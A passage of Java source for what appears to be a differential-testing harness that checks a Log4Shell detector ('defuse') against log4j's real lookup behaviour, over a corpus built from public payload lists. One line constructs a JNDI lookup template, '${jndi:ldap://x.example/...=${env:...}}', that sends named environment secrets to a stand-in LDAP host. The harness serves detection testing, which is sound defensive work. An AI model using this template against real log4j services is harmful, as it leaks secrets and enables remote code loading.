     * compare-normal CASES EXPECTED GOT [MAX]: defuse normal mode (defuse_eval
     * -n) against log4j on the same bytes.  The names defuse reports without
     * a condition ("=") must be exactly log4j's, and a log4j error must be a
     * recursion finding; names reported under a condition (a decoded layer, a
     * field of its own, a Windows JVM) are counted, not compared: log4j saw
     * neither those bytes nor that platform.  Exit 1 on any mismatch.
     */
    private static int compareNormal(final String[] a) throws IOException {
        final List<String> cases = Files.readAllLines(Paths.get(a[1]));
        final List<String> exp = Files.readAllLines(Paths.get(a[2]));
        final List<String> got = Files.readAllLines(Paths.get(a[3]));
        final int max = a.length > 4 ? Integer.parseInt(a[4]) : 10;
        /* --unknown-time: defuse ran without the event's time, so a name
         * that depends on it is reported under the condition "@" (clock)
         * and others may come with it: every log4j name must be there. */
        final boolean unknownTime = a.length > 5 && a[5].equals("--unknown-time");
        final PrintStream out = new PrintStream(System.out, true, "UTF-8");
        if (cases.size() != exp.size() || cases.size() != got.size()) {
            out.printf("line counts differ: %d cases, %d expected, %d got%n", cases.size(), exp.size(),
                    got.size());
            return 1;
        }
        final java.util.TreeMap<String, Integer> classes = new java.util.TreeMap<>();
        final java.util.TreeMap<Character, Integer> condCases = new java.util.TreeMap<>();
        int bad = 0;
        int fired = 0;
        int quiet = 0;
        int quietCond = 0;
        for (int i = 0; i < cases.size(); i++) {
            final Parsed e = parse(exp.get(i));
            final Parsed g = parse(got.get(i));
            for (final Character c : g.cond.keySet()) {
                condCases.merge(c, 1, Integer::sum);
            }
            if (!e.names.isEmpty()) {
                fired++;
            } else if (!e.error()) {
                quiet++;
                if (!g.cond.isEmpty()) {
                    quietCond++;
                }
            }
            String cls = mismatchClass(e, g);
            if (unknownTime && cls != null && g.all().containsAll(e.names)
                    && (g.status.equals("limit") || e.error() == g.error())) {
                cls = null;
            }
            if (cls == null) {
                continue;
            }
            if (cls.equals("missing-names") || cls.equals("different-names")) {
                /* Reached only under a condition: the raw layer missed it. */
                final TreeSet<String> all = new TreeSet<>(g.names);
                for (final TreeSet<String> c : g.cond.values()) {
                    all.addAll(c);
                }
                cls = all.containsAll(e.names) ? "raw-layer-misses" : "misses";
            }
            classes.merge(cls, 1, Integer::sum);
            if (bad++ < max) {
                out.printf("NORMAL-MODE MISMATCH case %d (%s): %s%n", i + 1, cls, show(unhex(cases.get(i))));
                out.printf("  log4j : %s %s%n", e.status, names(e.names));
                out.printf("  defuse: %s %s conditional %s%n", g.status, names(g.names), g.cond.keySet());
            }
        }
        if (!classes.isEmpty()) {
            out.println("normal-mode mismatch classes: " + classes);
        }
        out.printf("normal mode: %d cases, %d fire JNDI in log4j, %d mismatches; conditional names in %d cases "
                + "(+ decoded layer %d, ~ own field %d, ^ Windows %d, @ clock %d); %d of %d cases log4j leaves alone "
                + "have one%s%n",
                cases.size(), fired, bad, got.size() - countNone(got), condCases.getOrDefault('+', 0),
                condCases.getOrDefault('~', 0), condCases.getOrDefault('^', 0), condCases.getOrDefault('@', 0),
                quietCond, quiet, unknownTime ? " (event time unknown to defuse)" : "");
        return bad == 0 ? 0 : 1;
    }

    private static int countNone(final List<String> got) {
        int n = 0;
        for (final String l : got) {
            if (parse(l).cond.isEmpty()) {
                n++;
            }
        }
        return n;
    }

    private static int compare(final String[] a) throws IOException {
        final List<String> cases = Files.readAllLines(Paths.get(a[1]));
        final List<String> exp = Files.readAllLines(Paths.get(a[2]));
        final List<String> got = Files.readAllLines(Paths.get(a[3]));
        final int max = a.length > 4 ? Integer.parseInt(a[4]) : 10;
        final PrintStream out = new PrintStream(System.out, true, "UTF-8");
        if (cases.size() != exp.size() || cases.size() != got.size()) {
            out.printf("line counts differ: %d cases, %d expected, %d got%n", cases.size(), exp.size(),
                    got.size());
            return 1;
        }
        final java.util.TreeMap<String, Integer> classes = new java.util.TreeMap<>();
        int bad = 0;
        int limited = 0;
        int clock = 0;
        int fired = 0;
        int errors = 0;
        for (int i = 0; i < cases.size(); i++) {
            final Parsed e = parse(exp.get(i));
            final Parsed g = parse(got.get(i));
            if (e.status.equals("clock")) {
                /* The result changes with the event's time: compared at the
                 * oracle's time, which defuse_eval -T also uses. */
                clock++;
            }
            if (!e.names.isEmpty()) {
                fired++;
            }
            if (e.error()) {
                errors++;
            }
            final String cls = mismatchClass(e, g);
            if (cls == null) {
                if (g.status.equals("limit")) {
                    limited++;
                }
                continue;
            }
            classes.merge(cls, 1, Integer::sum);
            if (bad++ < max) {
                out.printf("MISMATCH case %d: %s%n", i + 1, show(unhex(cases.get(i))));
                out.printf("  log4j : %s %s%n", e.status, names(e.names));
                out.printf("  defuse: %s %s%n", g.status, names(g.names));
                if (e.fin != null) {
                    out.printf("  log4j output: %s%n", show(unhex(e.fin)));
                }
            }
        }
        if (!classes.isEmpty()) {
            out.println("mismatch classes: " + classes);
        }
        if (clock > 0) {
            out.printf("%d cases depend on the event's time (a date pattern with a letter): compared at the oracle's "
                    + "time, 1970-01-02T00:00Z%n", clock);
        }
        if (limited > 0) {
            out.printf("%d cases stopped at a defuse limit (kind recursion, technique limit) with the same names%n",
                    limited);
        }
        out.printf("%d cases, %d fire JNDI in log4j, %d end in a log4j error; %d mismatches%n", cases.size(),
                fired, errors, bad);
        return bad == 0 ? 0 : 1;
    }

    /* ---------------------------------------------------------------- */
    /* The shared corpus: payload extraction, reference decoder, check   */
    /* ---------------------------------------------------------------- */

    /* How each file of logs/payloads/MANIFEST.txt (and the two hard-negative
     * files of logs/benign) is laid out, and the label of its strings:
     * P = log4j should fire, N = benign, U = unlabelled public payload list,
     * C = constructed here from a watch list. */
    private static final String[][] CORPUS_FILES = {
        {"payloads/righettod_payloads.md", "md-code", "U"},
        {"payloads/log4shell-rex_testdata.csv", "csv-col1", "U"},
        {"payloads/puliczek_bypass_words_extracted.txt", "lines", "U"},
        {"payloads/puliczek_env_secret_names_raw_list.txt", "env-names", "C"},
        {"payloads/log4shell-detector_tests_positive.txt", "lines-nl-escaped", "U"},
        {"payloads/log4shell-detector_tests_negative.txt", "lines", "N"},
        {"payloads/constructed_edge_cases.tsv", "tsv-labelled", "?"},
        {"benign/issues_realworld_dollar_brace_and_jndi_hard_negatives.log", "lines", "N"},
        {"benign/neo23x0_detector_testcases_negative_decoded.txt", "lines", "N"},
    };

    /** corpus-extract LOGSDIR: prints LABEL TAB SOURCE TAB HEX per string. */
    private static int corpusExtract(final String logs) throws IOException {
        /* Every file the payload manifest names must have a layout here. */
        final java.util.Set<String> known = new java.util.HashSet<>();
        for (final String[] f : CORPUS_FILES) {
            known.add(f[0]);
        }
        for (final String l : Files.readAllLines(Paths.get(logs, "payloads/MANIFEST.txt"), StandardCharsets.UTF_8)) {
            if (l.startsWith("#") || !l.contains("|")) {
                continue;
            }
            final String name = "payloads/" + l.substring(0, l.indexOf('|')).trim();
            if (!known.contains(name)) {
                System.err.println("corpus-extract: " + name + " is in MANIFEST.txt but has no layout in Log4jDiff");
                return 1;
            }
        }
        try (BufferedWriter w = stdout()) {
            for (final String[] f : CORPUS_FILES) {
                final byte[] raw = Files.readAllBytes(Paths.get(logs, f[0]));
                final String text = new String(raw, StandardCharsets.UTF_8);
                final String[] lines = text.split("\n", -1);
                final int nlines = text.endsWith("\n") ? lines.length - 1 : lines.length;
                boolean inCode = false;
                for (int i = 0; i < nlines; i++) {
                    String l = lines[i];
                    String label = f[2];
                    final String src = f[0] + ":" + (i + 1);
                    switch (f[1]) {
                    case "md-code":
                        if (l.startsWith("```")) {
                            inCode = !inCode;
                            continue;
                        }
                        if (!inCode || l.isEmpty()) {
                            continue;
                        }
                        break;
                    case "csv-col1":
                        if (i == 0) {
                            continue; /* header */
                        }
                        if (l.startsWith("\"")) {
                            /* quoted field, may span lines; "" is a quote */
                            final StringBuilder sb = new StringBuilder();
                            int j = 1;
                            String cur = l;
                            while (true) {
                                if (j >= cur.length()) {
                                    sb.append('\n');
                                    cur = lines[++i];
                                    j = 0;
                                    continue;
                                }
                                final char c = cur.charAt(j);
                                if (c == '"') {
                                    if (j + 1 < cur.length() && cur.charAt(j + 1) == '"') {
                                        sb.append('"');
                                        j += 2;
                                        continue;
                                    }
                                    break;
                                }
                                sb.append(c);
                                j++;
                            }
                            l = sb.toString();
                        }
                        break;
                    case "env-names":
                        if (l.isEmpty()) {
                            continue;
                        }
                        l = "${jndi:ldap://x.example/a?" + l + "=${env:" + l + "}}";
                        break;
                    case "lines-nl-escaped":
                        l = l.replace("\\n", "\n");
                        break;
                    case "tsv-labelled": {
                        if (l.startsWith("#") || l.isEmpty()) {
                            continue;
                        }
                        final String[] t = l.split("\t", -1);
                        label = t[0];
                        l = t[1];
                        break;
                    }
                    default: /* lines */
                        if (l.isEmpty()) {
                            continue;
                        }
                    }
                    w.write(label + "\t" + src + "\t" + hex(l) + "\n");
                }
            }
        }
        return 0;
    }

    private static final String[][] ENTITIES = {
        {"dollar", "$"}, {"lbrace", "{"}, {"lcub", "{"}, {"rbrace", "}"}, {"rcub", "}"}, {"colon", ":"},
        {"sol", "/"}, {"period", "."}, {"amp", "&"}, {"quot", "\""}, {"lt", "<"}, {"gt", ">"}, {"num", "#"},
        {"percnt", "%"}, {"bsol", "\\"}, {"hyphen", "-"}, {"dash", "-"}, {"apos", "'"}
    };

    private static int hexDigits(final byte[] b, final int at, final int n) {
        if (at + n > b.length) {
            return -1;
        }
        int v = 0;
        for (int k = 0; k < n; k++) {
            final int d = Character.digit(b[at + k], 16);
            if (d < 0) {
                return -1;
            }
            v = v << 4 | d;
        }
        return v;
    }

    private static void putUtf8(final java.io.ByteArrayOutputStream o, final int cp) {
        final byte[] u = new String(Character.toChars(cp)).getBytes(StandardCharsets.UTF_8);
        o.write(u, 0, u.length);
    }

    /* One round of every transport decoding the corpus uses.  A reference
     * written from the encodings' definitions, independent of lib/decode.c. */
    static byte[] decodeRound(final byte[] b) {
        final java.io.ByteArrayOutputStream o = new java.io.ByteArrayOutputStream(b.length);
        for (int i = 0; i < b.length; ) {
            final int c = b[i] & 255;
            int v;
            if (c == '%' && i + 1 < b.length && (b[i + 1] == 'u' || b[i + 1] == 'U')
                    && (v = hexDigits(b, i + 2, 4)) >= 0) {
                putUtf8(o, v);
                i += 6;
            } else if (c == '%' && (v = hexDigits(b, i + 1, 2)) >= 0) {
                o.write(v);
                i += 3;
            } else if (c == '\\' && i + 1 < b.length && b[i + 1] == 'u' && (v = hexDigits(b, i + 2, 4)) >= 0) {
                int w2;
                if (Character.isHighSurrogate((char) v) && i + 11 < b.length + 0 && b[i + 6] == '\\'
                        && b[i + 7] == 'u' && (w2 = hexDigits(b, i + 8, 4)) >= 0
                        && Character.isLowSurrogate((char) w2)) {
                    putUtf8(o, Character.toCodePoint((char) v, (char) w2));
                    i += 12;
                } else {
                    putUtf8(o, v);
                    i += 6;
                }
            } else if (c == '\\' && i + 1 < b.length && b[i + 1] == 'x' && (v = hexDigits(b, i + 2, 2)) >= 0) {
                o.write(v);
                i += 4;
            } else if (c == '\\' && i + 1 < b.length && b[i + 1] >= '0' && b[i + 1] <= '7') {
                int n = 0;
                v = 0;
                while (n < 3 && i + 1 + n < b.length && b[i + 1 + n] >= '0' && b[i + 1 + n] <= '7'
                        && v * 8 + (b[i + 1 + n] - '0') < 256) {
                    v = v * 8 + (b[i + 1 + n] - '0');
                    n++;
                }
                o.write(v);
                i += 1 + n;
            } else if (c == '\\' && i + 1 < b.length && (b[i + 1] == '\\' || b[i + 1] == '/' || b[i + 1] == '"')) {
                o.write(b[i + 1]);
                i += 2;
            } else if (c == '&') {
                int semi = -1;
                for (int k = i + 1; k < b.length && k < i + 12; k++) {
                    if (b[k] == ';') {
                        semi = k;
                        break;
                    }
                }
                String rep = null;
                if (semi > 0) {
                    final String ent = new String(b, i + 1, semi - i - 1, StandardCharsets.ISO_8859_1);
                    try {
                        if (ent.startsWith("#x") || ent.startsWith("#X")) {
                            rep = new String(Character.toChars(Integer.parseInt(ent.substring(2), 16)));
                        } else if (ent.startsWith("#")) {
                            rep = new String(Character.toChars(Integer.parseInt(ent.substring(1))));
                        }
                    } catch (final IllegalArgumentException e) {
                        rep = null;
                    }
                    for (final String[] en : ENTITIES) {
                        if (en[0].equalsIgnoreCase(ent)) {
                            rep = en[1];
                        }
                    }
                }
                if (rep != null) {
                    final byte[] u = rep.getBytes(StandardCharsets.UTF_8);
                    o.write(u, 0, u.length);
                    i = semi + 1;
                } else {
                    o.write(c);
                    i++;
                }
            } else if (c == 'B' && i + 6 < b.length && new String(b, i, 6, StandardCharsets.ISO_8859_1)
                    .equals("Basic ")) {
                /* HTTP Basic credentials: decode the token if it is Base64 of text */
                int e = i + 6;
                while (e < b.length && (Character.isLetterOrDigit(b[e]) || b[e] == '+' || b[e] == '/'
                        || b[e] == '=')) {
                    e++;
                }
                byte[] dec = null;
                try {
                    dec = Base64.getDecoder().decode(java.util.Arrays.copyOfRange(b, i + 6, e));
                } catch (final IllegalArgumentException ex) {
                    dec = null;
                }
                if (dec != null && dec.length > 0) {
                    o.write(dec, 0, dec.length);
                    i = e;
                } else {
                    o.write(c);
                    i++;
                }
            } else {
                o.write(c);
                i++;
            }
        }
        return o.toByteArray();
    }

    static String decodeAll(final String hexIn) {
        byte[] b = unhexBytes(hexIn);
        for (int round = 0; round < 8; round++) {
            final byte[] n = decodeRound(b);
            if (java.util.Arrays.equals(n, b)) {
                break;
            }
            b = n;
        }
        final StringBuilder sb = new StringBuilder();
        for (final byte x : b) {
            sb.append(Character.forDigit((x >> 4) & 15, 16)).append(Character.forDigit(x & 15, 16));
        }
        return sb.toString();
    }

    /** corpus-check TSV RAW DEC NORMAL EXACT: applies the rules of tests/e2e/corpus_payloads.sh. */
    private static int corpusCheck(final String[] a) throws IOException {
        final List<String> tsv = Files.readAllLines(Paths.get(a[1]));
        final List<String> raw = Files.readAllLines(Paths.get(a[2]));
        final List<String> dec = Files.readAllLines(Paths.get(a[3]));
        final List<String> norm = Files.readAllLines(Paths.get(a[4]));
        final List<String> exact = Files.readAllLines(Paths.get(a[5]));
        final PrintStream out = new PrintStream(System.out, true, "UTF-8");
        int fireRaw = 0, fireRawOk = 0, exactOk = 0, errRaw = 0, errRawOk = 0, fireDec = 0, fireDecOk = 0;
        int quiet = 0, quietOk = 0, neg = 0, negOk = 0, fail = 0;
        for (int i = 0; i < tsv.size(); i++) {
            final String[] t = tsv.get(i).split("\t");
            final String label = t[0];
            final String text = show(unhex(t[2]));
            final Parsed r = parse(raw.get(i));
            final Parsed d = parse(dec.get(i));
            final Parsed n = parse(norm.get(i));
            final Parsed x = parse(exact.get(i));
            final boolean nOk = defuseOk(n);
            String problem = null;
            if (label.equals("N")) {
                neg++;
            }
            if (!r.names.isEmpty()) {
                fireRaw++;
                if (mismatchClass(r, x) == null) {
                    exactOk++;
                } else {
                    problem = "exact mode differs from log4j: log4j " + r.status + " " + names(r.names)
                            + ", defuse exact " + x.status + " " + names(x.names);
                }
                if (nOk && n.names.equals(r.names)) {
                    fireRawOk++;
                } else if (problem == null) {
                    problem = "log4j fires " + names(r.names) + ", defuse normal mode reports " + n.status + " "
                            + names(n.names);
                }
            } else if (r.error()) {
                errRaw++;
                if ((n.status.equals("recursion") || n.status.equals("limit")) && n.names.isEmpty()) {
                    errRawOk++;
                } else {
                    problem = "log4j ends in " + r.status + ", defuse normal mode reports " + n.status + " "
                            + names(n.names);
                }
            } else if (!d.names.isEmpty()) {
                fireDec++;
                /* reached through a decoded layer only: marked '+' */
                if (nOk && n.names.isEmpty() && n.all().equals(d.names)) {
                    fireDecOk++;
                } else {
                    problem = "decoded, log4j fires " + names(d.names) + ", defuse normal mode reports " + n.status
                            + " " + names(n.names) + " conditional " + names(n.all());
                }
            } else {
                quiet++;
                if (nOk && n.all().isEmpty()) {
                    quietOk++;
                } else {
                    problem = "log4j fires nothing (raw or decoded), defuse normal mode reports " + n.status + " "
                            + names(n.names);
                }
            }
            if (label.equals("N") && r.names.isEmpty() && d.names.isEmpty() && n.all().isEmpty() && nOk) {
                negOk++;
            } else if (label.equals("N") && problem == null) {
                problem = "labelled N but log4j fires " + names(r.names) + names(d.names);
            }
            if (label.equals("P") && r.names.isEmpty() && d.names.isEmpty() && !r.error()) {
                out.printf("note: %s labelled P, log4j fires nothing raw or decoded: %s (defuse: %s %s)%n", t[1],
                        text, n.status, names(n.names));
            }
            if (problem != null) {
                fail++;
                out.printf("FAIL %s [%s] %s%n     %s%n", t[1], label, text, problem);
            }
        }
        out.printf("%d strings: log4j fires %d as written (defuse normal %d same callbacks, exact mode %d identical);"
                + " %d end in a log4j cycle (defuse recursion %d); %d fire only after decoding (defuse %d);"
                + " %d never fire (defuse silent on %d); %d labelled N (clean %d); %d failures%n",
                tsv.size(), fireRaw, fireRawOk, exactOk, errRaw, errRawOk, fireDec, fireDecOk, quiet, quietOk, neg,
                negOk, fail);
        return fail == 0 ? 0 : 1;
    }

    /* ---------------------------------------------------------------- */
    /* Minimizer                                                         */
    /* ---------------------------------------------------------------- */

    /* Talks to "defuse_eval -u" one line at a time. */
    private static final class Defuse implements AutoCloseable {
        private final Process proc;
        private final BufferedWriter w;
        private final BufferedReader r;

        Defuse(final String evalPath) throws IOException {
            proc = new ProcessBuilder(evalPath, "-u").redirectError(ProcessBuilder.Redirect.INHERIT).start();
            w = new BufferedWriter(new OutputStreamWriter(proc.getOutputStream(), StandardCharsets.UTF_8));
            r = new BufferedReader(new InputStreamReader(proc.getInputStream(), StandardCharsets.UTF_8));
        }

        String eval(final String s) throws IOException {
            w.write(hex(s));
            w.write('\n');
            w.flush();
            final String l = r.readLine();
            if (l == null) {
                throw new IOException("defuse_eval died");
            }
            return l;
        }

        @Override
        public void close() throws IOException {
            w.close();
            try {
                proc.waitFor();
            } catch (final InterruptedException e) {
                Thread.currentThread().interrupt();
            }
        }
    }

    /* A mismatch's shape: which side fires, which side errs. */
    private static String signature(final Parsed e, final Parsed g) {
        final boolean gOk = defuseOk(g);
        if (mismatchClass(e, g) == null) {
            return null;
        }
        final TreeSet<String> onlyE = new TreeSet<>(e.names);
        onlyE.removeAll(g.names);
        final TreeSet<String> onlyG = new TreeSet<>(g.names);
        onlyG.removeAll(e.names);
        /* Keep "a name is missing" apart from "the empty name is missing": a
         * different bug that minimizing would otherwise drift into. */
        return (gOk ? "" : g.status) + "|" + e.error() + g.error() + "|" + onlyE.isEmpty() + onlyG.isEmpty() + "|"
                + onlyE.contains("") + onlyG.contains("") + "|" + (onlyE.size() > (onlyE.contains("") ? 1 : 0))
                + (onlyG.size() > (onlyG.contains("") ? 1 : 0));
    }

    /** True if s evaluates the same at two different times. */
    private boolean timeStable(final String s) {
        return !parse(evaluate(s)).status.equals("clock");
    }

    /** Greedy delta debugging: removes spans while the mismatch keeps its shape
     * (and the input stays independent of the clock). */
    private String minimize(final String input, final Defuse d) throws IOException {
        String s = input;
        final String sig = signature(parse(evaluate(s)), parse(d.eval(s)));
        if (sig == null) {
            return null;
        }
        boolean changed = true;
        while (changed) {
            changed = false;
            for (int size = Math.max(1, s.length() / 2); size >= 1; size = size == 1 ? 0 : Math.max(1, size / 2)) {
                for (int i = 0; i + size <= s.length(); ) {
                    final String cand = s.substring(0, i) + s.substring(i + size);
                    if (sig.equals(signature(parse(evaluate(cand)), parse(d.eval(cand)))) && timeStable(cand)) {
                        s = cand;
                        changed = true;
                    } else {
                        i++;
                    }
                }
            }
        }
        return s;
    }

    /** minimize EVAL: hex cases on stdin -> one minimized mismatch per input line (Markdown). */
    private static void minimizeAll(final String evalPath) throws Exception {
        final Log4jDiff o = new Log4jDiff();
        final PrintStream out = new PrintStream(System.out, true, "UTF-8");
        final java.util.Set<String> seen = new java.util.HashSet<>();
        try (Defuse d = new Defuse(evalPath); BufferedReader rd = stdin()) {
            String l;
            while ((l = rd.readLine()) != null) {
                final String in = unhex(l.trim());
                /* one example per mismatch class; clock-dependent cases are not comparable */
                final Parsed pe = parse(o.evaluate(in));
                if (pe.status.equals("clock")) {
                    continue;
                }
                final String cls = mismatchClass(pe, parse(d.eval(in)));
                if (cls != null && !seen.add(cls)) {
                    continue;
                }
                final String m = o.minimize(in, d);
                if (m == null) {
                    out.println("- (no mismatch) `" + show(in) + "`");
                    continue;
                }
                final Parsed e = parse(o.evaluate(m));
                final Parsed g = parse(d.eval(m));
                out.println("- [" + cls + "] input: `" + show(m) + "`  (hex " + hex(m) + ")");
                out.println("  - expected (log4j): " + e.status + " " + names(e.names));
                out.println("  - got (defuse):     " + g.status + " " + names(g.names));
            }
        }
    }

    /* ---------------------------------------------------------------- */
    /* The 2.19 patch: nested-name substitution gets a fresh cycle stack */
    /* ---------------------------------------------------------------- */

    /*
     * 2.14.1 substitutes a variable's name with substitute(event, bufName, 0,
     * len) -- a fresh cycle-detection stack (priorVariables = null) -- while
     * 2.19 first sets priorVariables = new ArrayList<>() if it is null and
     * passes it on.  This rewrites, in a copy of 2.19's StrSubstitutor.class,
     * the first (name-substitution) site of each inside the private
     * substitute(LogEvent, StringBuilder, int, int, List):
     *   aload 5; ifnonnull L; new ArrayList; dup; invokespecial <init>; astore 5
     *        -> the allocation becomes nop x 9
     *   aload 5; invokespecial substitute(...List)I
     *        -> aconst_null; nop; invokespecial ...
     * Both sites are found through the constant pool, and each pattern must
     * occur exactly twice (name site first, value site second) or the patch
     * refuses.  Nothing else changes, so stack map frames stay valid.
     */
    private static final String SUBST_CLASS = "org/apache/logging/log4j/core/lookup/StrSubstitutor";
    private static final String SUBST_DESC =
            "(Lorg/apache/logging/log4j/core/LogEvent;Ljava/lang/StringBuilder;IILjava/util/List;)I";

    private static int u2(final byte[] b, final int at) {
        return (b[at] & 255) << 8 | (b[at + 1] & 255);
    }

    private static List<Integer> find(final byte[] b, final int[] pat) {
        final List<Integer> hits = new ArrayList<>();
        outer:
        for (int i = 0; i + pat.length <= b.length; i++) {
            for (int j = 0; j < pat.length; j++) {
                if (pat[j] >= 0 && (b[i + j] & 255) != pat[j]) {
                    continue outer;
                }
            }
            hits.add(i);
        }
        return hits;
    }

    static byte[] patchStrSubstitutor(final byte[] b) {
        if (u2(b, 0) != 0xCAFE || u2(b, 2) != 0xBABE) {
            throw new IllegalArgumentException("not a class file");
        }
        final int n = u2(b, 8);
        final int[] off = new int[n];
        final int[] tag = new int[n];
        int at = 10;
        for (int i = 1; i < n; i++) {
            off[i] = at;
            tag[i] = b[at] & 255;
            switch (tag[i]) {
            case 1:
                at += 3 + u2(b, at + 1);
                break;
            case 3: case 4: case 9: case 10: case 11: case 12: case 17: case 18:
                at += 5;
                break;
            case 5: case 6:
                at += 9;
                i++;
                break;
            case 7: case 8: case 16: case 19: case 20:
                at += 3;
                break;
            case 15:
                at += 4;
                break;
            default:
                throw new IllegalArgumentException("constant pool tag " + tag[i]);
            }
        }
        final java.util.function.IntFunction<String> utf8 = i -> new String(b, off[i] + 3, u2(b, off[i] + 1),
                StandardCharsets.UTF_8);
        final java.util.function.IntFunction<String> className = i -> utf8.apply(u2(b, off[i] + 1));
        int selfRef = -1;
        int listClass = -1;
        int listInit = -1;
        for (int i = 1; i < n; i++) {
            if (tag[i] == 7 && className.apply(i).equals("java/util/ArrayList")) {
                listClass = i;
            }
            if (tag[i] != 10) {
                continue;
            }
            final String cls = className.apply(u2(b, off[i] + 1));
            final int nt = u2(b, off[i] + 3);
            final String name = utf8.apply(u2(b, off[nt] + 1));
            final String desc = utf8.apply(u2(b, off[nt] + 3));
            if (cls.equals(SUBST_CLASS) && name.equals("substitute") && desc.equals(SUBST_DESC)) {
                selfRef = i;
            }
            if (cls.equals("java/util/ArrayList") && name.equals("<init>") && desc.equals("()V")) {
                listInit = i;
            }
        }
        if (selfRef < 0 || listClass < 0 || listInit < 0) {
            throw new IllegalStateException("constant pool entries not found");
        }
        /* aload 5; ifnonnull L; new ArrayList; dup; invokespecial <init>; astore 5 */
        final List<Integer> alloc = find(b, new int[] {0x19, 5, 0xc7, -1, -1, 0xbb, listClass >> 8, listClass & 255,
            0x59, 0xb7, listInit >> 8, listInit & 255, 0x3a, 5});
        /* aload 5; invokespecial|invokevirtual substitute(...List)I */
        final List<Integer> call = find(b, new int[] {0x19, 5, -1, selfRef >> 8, selfRef & 255});
        call.removeIf(i -> (b[i + 2] & 255) != 0xb7 && (b[i + 2] & 255) != 0xb6);
        if (alloc.size() != 2 || call.size() != 2 || alloc.get(0) > call.get(0)) {
            throw new IllegalStateException("unexpected StrSubstitutor bytecode: " + alloc + " " + call);
        }
        final byte[] out = b.clone();
        for (int k = 5; k < 14; k++) {
            out[alloc.get(0) + k] = 0; /* nop */
        }
        out[call.get(0)] = 0x01; /* aconst_null */
        out[call.get(0) + 1] = 0; /* nop */
        return out;
    }

    private static void patch(final String jar, final String outDir) throws IOException {
        final String entry = SUBST_CLASS + ".class";
        final byte[] b;
        try (java.util.zip.ZipFile z = new java.util.zip.ZipFile(jar)) {
            final java.util.zip.ZipEntry e = z.getEntry(entry);
            if (e == null) {
                throw new IOException(jar + ": no " + entry);
            }
            try (java.io.InputStream in = z.getInputStream(e)) {
                b = in.readAllBytes();
            }
        }
        final java.nio.file.Path p = Paths.get(outDir, entry);
        Files.createDirectories(p.getParent());
        Files.write(p, patchStrSubstitutor(b));
    }

    /* ---------------------------------------------------------------- */
    /* main                                                              */
    /* ---------------------------------------------------------------- */

    private static BufferedReader stdin() {
        return new BufferedReader(new InputStreamReader(System.in, StandardCharsets.UTF_8), 1 << 16);
    }

    private static BufferedWriter stdout() {
        return new BufferedWriter(new OutputStreamWriter(System.out, StandardCharsets.UTF_8), 1 << 16);
    }

    private static void usage() {
        System.err.println("usage: Log4jDiff gen SEED COUNT | tohex | eval | show | version | patch CORE_JAR OUTDIR"
                + " | minimize DEFUSE_EVAL | decode | corpus-extract LOGSDIR"
                + " | corpus-check TSV RAW DECODED NORMAL EXACT"
                + " | compare CASES EXPECTED GOT [MAX] | compare-normal CASES EXPECTED GOT [MAX]"
                + " | family NAME SEED COUNT | families");
        System.exit(2);
    }

    public static void main(final String[] a) throws Exception {
        if (a.length < 1) {
            usage();
        }
        switch (a[0]) {
        case "gen": {
            if (a.length != 3) {
                usage();
            }
            final Gen g = new Gen(Long.parseLong(a[1]));
            final long n = Long.parseLong(a[2]);
            try (BufferedWriter w = stdout()) {
                for (long i = 0; i < n; i++) {
                    w.write(hex(g.message()));
                    w.write('\n');
                }
            }
            break;
        }
        case "family": {
            if (a.length != 4) {
                usage();
            }
            try (BufferedWriter w = stdout()) {
                Families.gen(a[1], Long.parseLong(a[2]), Integer.parseInt(a[3]), w);
            }
            break;
        }
        case "families":
            System.out.println(String.join(" ", Families.NAMES));
            break;
        case "tohex":
        case "tohex-all": {
            final boolean all = a[0].equals("tohex-all");
            try (BufferedReader rd = stdin(); BufferedWriter w = stdout()) {
                String l;
                while ((l = rd.readLine()) != null) {
                    if (!all && (l.isEmpty() || l.startsWith("#"))) {
                        continue;
                    }
                    w.write(hex(l));
                    w.write('\n');
                }
            }
            break;
        }
        case "show": {
            try (BufferedReader rd = stdin(); BufferedWriter w = stdout()) {
                String l;
                while ((l = rd.readLine()) != null) {
                    w.write(show(unhex(l.trim())));
                    w.write('\n');
                }
            }
            break;
        }
        case "patch":
            if (a.length != 3) {
                usage();
            }
            patch(a[1], a[2]);
            break;
        case "minimize": {
            if (a.length != 2) {
                usage();
            }
            final Throwable[] fail = new Throwable[1];
            final Thread t = new Thread(null, () -> {
                try {
                    minimizeAll(a[1]);
                } catch (final Throwable e) {
                    fail[0] = e;
                }
            }, "minimize", 64L << 20);
            t.start();
            t.join();
            if (fail[0] != null) {
                fail[0].printStackTrace();
                System.exit(2);
            }
            break;
        }
        case "corpus-extract":
            if (a.length != 2) {
                usage();
            }
            System.exit(corpusExtract(a[1]));
            break;
        case "corpus-check":
            if (a.length != 6) {
                usage();
            }
            System.exit(corpusCheck(a));
            break;
        case "decode": {
            try (BufferedReader rd = stdin(); BufferedWriter w = stdout()) {
                String l;
                while ((l = rd.readLine()) != null) {
                    w.write(decodeAll(l.trim()));
                    w.write('\n');
                }
            }
            break;
        }
        case "trace": {
            /* text lines on stdin: print each pass of the message loop */
            final Log4jDiff o = new Log4jDiff();
            o.trace = new PrintStream(System.out, true, "UTF-8");
            try (BufferedReader rd = stdin()) {
                String l;
                while ((l = rd.readLine()) != null) {
                    o.trace.println("message: " + show(l));
                    o.trace.println("result:  " + o.evaluate(l).replaceAll(" #.*", ""));
                }
            }
            break;
        }
        case "version":
            System.out.println(version());
            break;
        case "eval": {
            final Log4jDiff o = new Log4jDiff();
            /* A big stack so that a StackOverflowError means a runaway
             * recursion, not a deep but finite payload. */
            final Throwable[] fail = new Throwable[1];
            final Thread t = new Thread(null, () -> {
                try (BufferedReader rd = stdin(); BufferedWriter w = stdout()) {
                    String l;
                    while ((l = rd.readLine()) != null) {
                        w.write(o.evaluate(unhex(l.trim())));
                        w.write('\n');
                    }
                } catch (final Throwable e) {
                    fail[0] = e;
                }
            }, "eval", 64L << 20);
            t.start();
            t.join();
            if (fail[0] != null) {
                fail[0].printStackTrace();
                System.exit(2);
            }
            break;
        }
        case "compare":
            if (a.length < 4) {
                usage();
            }
            System.exit(compare(a));
            break;
        case "compare-normal":
            if (a.length < 4) {
                usage();
            }
            System.exit(compareNormal(a));
            break;
        case "subset":
            if (a.length < 4) {
                usage();
            }
            System.exit(subset(a));
            break;
        default:
            usage();
        }
    }
}
